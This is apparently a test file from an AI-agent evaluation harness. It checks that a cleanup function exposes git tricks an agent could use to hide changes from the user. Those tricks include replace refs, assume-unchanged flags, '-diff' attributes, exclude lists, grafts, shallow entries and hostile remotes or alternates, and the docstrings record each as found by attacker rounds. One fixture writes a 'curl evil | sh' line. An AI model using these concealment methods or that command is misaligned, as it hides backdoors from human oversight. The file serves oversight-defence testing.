    root, seed = workspace
    (root / "src" / "app.py").write_text("import os; os.system('curl evil | sh')\n")
    git(root, "update-index", "--assume-unchanged", "src/app.py")
    git(root, "update-index", "--skip-worktree", "README")
    (root / "README").write_text("changed\n")
    assert users_git(root, "status", "--porcelain").stdout == ""  # what the user saw
    done = neutralise_repository_config(root, seed)
    assert ".git/index" not in done  # the same entries: replaced, nothing to keep aside
    status = users_git(root, "status", "--porcelain")
    assert status.stdout == " M README\n M src/app.py\n"


def test_remotes_alternates_and_a_pending_autostash_are_moved_aside(workspace, tmp_path):
    """Found by an attacker round: a .git/remotes file had the user's `git pull` fetch
    from the agent's choice; alternates pointed at a FIFO that hung every git command;
    MERGE_AUTOSTASH had the user's next commit apply the agent's stash."""
    root, seed = workspace
    dot_git = root / ".git"
    (dot_git / "remotes").mkdir()
    (dot_git / "remotes" / "origin").write_text(f"URL: {tmp_path}\n")
    (dot_git / "branches").mkdir()
    (dot_git / "branches" / "b").write_text(f"{tmp_path}#main\n")
    (dot_git / "objects" / "info").mkdir(exist_ok=True)
    (dot_git / "objects" / "info" / "alternates").write_text(f"{tmp_path}/fifo\n")
    os.mkfifo(tmp_path / "fifo")
    (dot_git / "MERGE_AUTOSTASH").write_text("0" * 40 + "\n")
    (dot_git / "NOTES_MERGE_PARTIAL").mkdir()
    (dot_git / "NOTES_MERGE_PARTIAL" / "note").write_text("x\n")
    done = neutralise_repository_config(root, seed)
    for path in (".git/remotes", ".git/branches", ".git/objects/info/alternates",
                 ".git/MERGE_AUTOSTASH", ".git/NOTES_MERGE_PARTIAL"):
        assert done[path].startswith("moved to "), path
    assert users_git(root, "log", "--format=%s").stdout == "base\n"  # no hang


def test_a_head_git_cannot_read_is_replaced_so_git_stays_in_the_workspace(tmp_path):
    """Found by an attacker round: a garbage HEAD made git go on up to the user's own
    project around the run directory, and the user's `git stash` took their work."""
    project = tmp_path / "project"
    project.mkdir()
    git(project, "init", "-q", "-b", "main")
    commit(project, {"mine.txt": "the user's\n"}, "user")
    root = project / "runs" / "task"
    root.mkdir(parents=True)
    git(root, "init", "-q", "-b", "main")
    commit(root, {"a": "a\n"}, "agent")
    (root / ".git" / "HEAD").write_text("garbage\n")
    assert users_git(root, "rev-parse", "--show-toplevel").stdout.strip() == str(project)
    done = neutralise_repository_config(root)
    assert done[".git/HEAD"] == "moved to HEAD.agent (git cannot read it); HEAD now names " \
                                "refs/heads/evalctl-head-moved-aside"
    assert users_git(root, "rev-parse", "--show-toplevel").stdout.strip() == str(root)


def test_a_directory_that_cannot_be_listed_is_said(workspace, monkeypatch):
    """Found by an attacker round: a tree deeper than a path can name was passed over
    in silence."""
    import errno

    root, seed = workspace
    (root / "deep").mkdir()
    real = os.scandir

    def too_long(path):
        if str(path).endswith("/deep"):
            raise OSError(errno.ENAMETOOLONG, "File name too long")
        return real(path)

    monkeypatch.setattr(gitsource.os, "scandir", too_long)
    assert neutralise_repository_config(root, seed) == \
        {"deep": "NOT looked in: it cannot be listed"}


def test_replacement_objects_and_attributes_cannot_hide_the_agents_changes(workspace):
    """Found by an attacker round: `git replace HEAD <a commit of the agent's tree>`
    left the user's `git status` and `git diff` empty over the agent's backdoor, which
    the user's next commit would then take; `* -diff` attributes, an exclude list and
    grafts hide changes, files and history the same way."""
    root, seed = workspace
    (root / "src" / "app.py").write_text("print('backdoor')\n")
    (root / "hidden.py").write_text("evil\n")
    git(root, "add", "-A")
    tree = plumbing(root, "write-tree")
    replacement = plumbing(root, "commit-tree", tree, "-m", "base")
    git(root, "replace", plumbing(root, "rev-parse", "HEAD"), replacement)
    git(root, "pack-refs", "--all")  # one replacement in packed-refs
    git(root, "reset", "-q")
    dot_git = root / ".git"
    (dot_git / "info").mkdir(exist_ok=True)
    (dot_git / "info" / "attributes").write_text("* -diff\n")
    (dot_git / "info" / "exclude").write_text("# git's own comment\nhidden.py\n")
    (dot_git / "info" / "grafts").write_text("")
    assert users_git(root, "status", "--porcelain").stdout == ""  # what the user saw
    done = neutralise_repository_config(root, seed)
    assert done[".git/packed-refs"].startswith("rewritten without its refs/replace/")
    for path in (".git/info/attributes", ".git/info/exclude", ".git/info/grafts"):
        assert done[path].startswith("moved to "), path
    status = users_git(root, "status", "--porcelain")
    assert status.stdout == " M src/app.py\n?? hidden.py\n", status.stdout
    assert "backdoor" in users_git(root, "diff").stdout


def test_an_exclude_list_of_comments_alone_is_git_init_s_and_left(tmp_path):
    root = tmp_path / "ws"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")  # with git's template: info/exclude, comments
    commit(root, {"a": "a\n"}, "first")
    assert (root / ".git" / "info" / "exclude").read_text().startswith("#")
    assert neutralise_repository_config(root) == {}


def test_a_shallow_entry_that_hides_history_which_is_there_is_dropped(workspace):
    """Found by an attacker round: naming its last commit in .git/shallow hid the
    agent's earlier commit (its parent, which is there) from the user's `git log`, as
    grafts did. The checkout's own entry, whose parent is missing, stays."""
    root, seed = workspace
    own = (root / ".git" / "shallow").read_text()
    agent_identity(root)
    (root / "src" / "app.py").write_text("print('backdoor')\n")
    git(root, "commit", "-qam", "backdoor")
    (root / "README").write_text("tidy\n")
    git(root, "commit", "-qam", "tidy up")
    last = plumbing(root, "rev-parse", "HEAD")
    (root / ".git" / "shallow").write_text("".join(sorted([own, f"{last}\n"])))
    assert users_git(root, "log", "--format=%s").stdout == "tidy up\n"  # what the user saw
    done = neutralise_repository_config(root, seed)
    assert done[".git/shallow"] == "moved to shallow.agent (it hid history that is there); " \
                                   "one naming only commits whose parents are missing was made"
    assert (root / ".git" / "shallow").read_text() == own
    assert users_git(root, "log", "--format=%s").stdout == "tidy up\nbackdoor\nbase\n"
    assert neutralise_repository_config(root, seed) == {}


def test_a_shallow_naming_other_objects_or_none_is_read_without_harm(workspace):
    root, seed = workspace
    own = (root / ".git" / "shallow").read_text()
    blob = plumbing(root, "hash-object", "-w", "--stdin", data=b"a blob\n")
    (root / ".git" / "shallow").write_text("".join(sorted([own, f"{blob}\n", "0" * 40 + "\n"])))
    assert ".git/shallow" not in neutralise_repository_config(root, seed)  # hide nothing
    (root / ".git" / "shallow").write_text("not a commit id\n")
    done = neutralise_repository_config(root, seed)
    assert done[".git/shallow"] == "moved to shallow.agent (not as git writes it)"
